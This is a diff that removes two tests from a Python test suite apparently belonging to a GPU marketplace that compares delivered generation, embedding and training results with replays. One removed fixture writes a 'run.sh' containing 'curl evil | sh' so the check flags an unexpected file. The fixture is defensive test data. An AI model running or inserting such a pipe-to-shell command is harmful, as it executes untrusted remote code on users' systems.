@@ -320,32 +320,6 @@ def test_pay_a_passed_check_let_through_is_taken_back_when_the_provider_is_caugh
     assert ledger.audit(w.db) == []
 
 
-def test_hostile_results_disagree_instead_of_crashing_the_comparison(tmp_path):
-    from gpumarket.kinds import embed, generate
-
-    good = tmp_path / "good.jsonl"
-    good.write_text('{"index": 0, "completion": "a"}\n')
-    bad = tmp_path / "bad.jsonl"
-    bad.write_text('{"index": []}\n[1, 2]\n"x"\n{"index": 0, "completion": "b"}\n')
-    metrics = tmp_path / "metrics.json"
-    metrics.write_text('{"prompts": 1, "texts": 1}')
-    ok, why = generate.KIND.compare({"completions.jsonl": bad},
-                                    {"completions.jsonl": good, "metrics.json": metrics}, {})
-    assert not ok and "differ" in why
-    ok, why = generate.KIND.compare({}, {"completions.jsonl": good}, {})
-    assert not ok
-    inf = tmp_path / "inf.jsonl"
-    inf.write_text('{"index": 0, "embedding": [Infinity, 1.0]}\n')
-    fine = tmp_path / "fine.jsonl"
-    fine.write_text('{"index": 0, "embedding": [0.6, 0.8]}\n')
-    ok, why = embed.KIND.compare({"embeddings.jsonl": inf},
-                                 {"embeddings.jsonl": fine, "metrics.json": metrics}, {})
-    assert not ok and "finite" in why
-    ok, _ = embed.KIND.compare({"embeddings.jsonl": fine},
-                               {"embeddings.jsonl": fine, "metrics.json": metrics}, {})
-    assert ok
-
-
 def settlement_of(w: World, check_id: str) -> tuple[int, str]:
     """The held settlement a check decides, and how its resolution was posted."""
     seq = w.db.execute("SELECT settle_seq FROM checks WHERE id = ?", [check_id]).fetchone()[0]
@@ -437,46 +411,6 @@ def test_a_tie_break_goes_only_to_the_trusted_checkers_and_every_check_is_drawn(
     needs = placement.check_needs(w.db, book, first, dataclasses.replace(
         base, job_id=first, exclude=frozenset({"h1"})), trusted)
     assert needs.exclude == {"h1"} and 0 <= needs.draw < 1
-
-
-def test_a_training_result_is_compared_file_by_file_every_file(tmp_path):
-    """Issue 34: every delivered file of a training result is compared — a config whose
-    rms_norm_eps was altered, a changed final loss, a file added or left out all differ —
-    while what honestly differs between runs (the transformers version in config.json,
-    timings in metrics.json) does not."""
-    import json
-
-    from gpumarket.kinds import training
-
-    def result(name: str, eps: float = 1e-6, version: str = "5.17.0", loss: float = 2.5,
-               seconds: float = 3.0, extra: bool = False, drop: str = "") -> dict:
-        d = tmp_path / name
-        d.mkdir()
-        files = {"model.safetensors": b"weights", "loss.jsonl": b'{"step": 1, "loss": 2.5}\n',
-                 "config.json": json.dumps({"rms_norm_eps": eps,
-                                            "transformers_version": version}).encode(),
-                 "generation_config.json": json.dumps({"transformers_version": version}).encode(),
-                 "metrics.json": json.dumps({"final_loss": loss, "steps": 10.0,
-                                             "train_seconds": seconds}).encode()}
-        if extra:
-            files["run.sh"] = b"curl evil | sh"
-        out = {}
-        for n, data in files.items():
-            if n != drop:
-                (d / n).write_bytes(data)
-                out[n] = d / n
-        return out
-
-    honest = result("honest")
-    kind = training.KIND
-    assert kind.evidence(set(honest)) == set(honest)
-    assert kind.compare(honest, result("replay", version="5.18.0", seconds=9.0), {})[0]
-    for doctored, why in [(result("eps", eps=1e-2), "config.json differs"),
-                          (result("loss", loss=2.4), "metrics.json differs"),
-                          (result("extra", extra=True), "the replay returned no run.sh"),
-                          (result("drop", drop="loss.jsonl"), "no loss.jsonl")]:
-        ok, said = kind.compare(doctored, result(f"r-{why[:4]}-{len(why)}"), {})
-        assert not ok and why in said, said
 
 
 def spent(w: World, client: str = "ca") -> int:
